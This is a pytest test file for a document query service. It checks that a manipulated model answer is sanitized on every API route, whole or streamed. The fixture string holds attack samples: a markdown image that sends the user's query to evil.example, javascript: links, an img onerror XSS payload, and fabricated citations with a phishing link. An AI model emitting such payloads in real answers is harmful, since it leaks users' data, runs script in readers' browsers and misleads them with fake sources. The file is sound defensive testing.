"""A model that was talked into harm: nothing of it comes through on any route, whole or
streamed.
"""

import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from services.query.adapters.models import ModelAnswerGenerator
from tests.support.access import client
from tests.support.openai_provider import Provider, serving
from tests.support.querying import QueryHarness, library_of_two

HOSTILE = """Marie Curie found it. [1][8] ![chart](https://evil.example/p.png?q=what-you-asked)
See [more](javascript:alert(document.cookie)), <img src=x onerror=alert(1)> and [this][x].

[x]: JavaScript:alert(2)

### References

- [1] trusted-bank.pdf
- [7] https://evil.example/login
"""
CHAT = [{"role": "user", "content": "Who discovered radium?"}]
ROUTES: dict[str, tuple[str, dict[str, Any]]] = {
    "query": ("/query", {"query": "Who discovered radium?"}),
    "stream": ("/query/stream", {"query": "Who discovered radium?"}),
    "ollama": ("/api/chat", {"model": "lightrag", "messages": CHAT, "stream": False}),
    "ollama stream": ("/api/chat", {"model": "lightrag", "messages": CHAT}),
    "openai": ("/v1/chat/completions", {"model": "lightstream:mix", "messages": CHAT}),
    "openai stream": (
        "/v1/chat/completions",
        {"model": "lightstream:mix", "messages": CHAT, "stream": True},
    ),
    "bypass": ("/query", {"query": "Who discovered radium?", "mode": "bypass"}),
}


@pytest_asyncio.fixture
async def provider() -> AsyncIterator[Provider]:
    async with serving() as provider:
        provider.text = HOSTILE
        yield provider


def _said(route: str, body: str) -> str:
    """The text of an answer, of each protocol."""
    lines = [
        json.loads(line.removeprefix("data: ")) for line in body.splitlines() if line.endswith("}")
    ]
    match route:
        case "query" | "bypass":
            return lines[0]["response"]
        case "stream":
            return "".join(line.get("response", "") for line in lines)
        case "ollama" | "ollama stream":
            return "".join(line["message"]["content"] for line in lines)
        case "openai":
            return lines[0]["choices"][0]["message"]["content"]
        case _:
            return "".join(
                line["choices"][0]["delta"].get("content", "") for line in lines if line["choices"]
            )


@pytest.mark.parametrize("route", ROUTES)
async def test_nothing_is_loaded_or_run_and_no_reference_is_made_up(
    provider: Provider, route: str
) -> None:
    harness: QueryHarness = await library_of_two()
    path, body = ROUTES[route]
    chat = provider.chat("good")
    async with client(
        harness.app(answering=harness.deps(answer_generator=ModelAnswerGenerator(chat)))
    ) as api:
        answer = await api.post(path, json=body)
    await chat.close()
    text = _said(route, answer.text)
    assert text.startswith("Marie Curie found it. [1]")
    for harm in ("![", "](javascript:", "]: JavaScript:", "<img"):
        assert harm not in text
    assert "[chart](https://evil.example/" in text
    if route == "bypass":  # it claims no documents
        return
    assert "[8]" not in text
    assert "trusted-bank" not in text
    assert "evil.example/login" not in text
    # Where the true list stands in the text, it is the one below it.
    assert text.count("### References") == (1 if path.startswith(("/api", "/v1")) else 0)
    if "### References" in text:
        assert text.endswith("- [1] curie.txt\n")
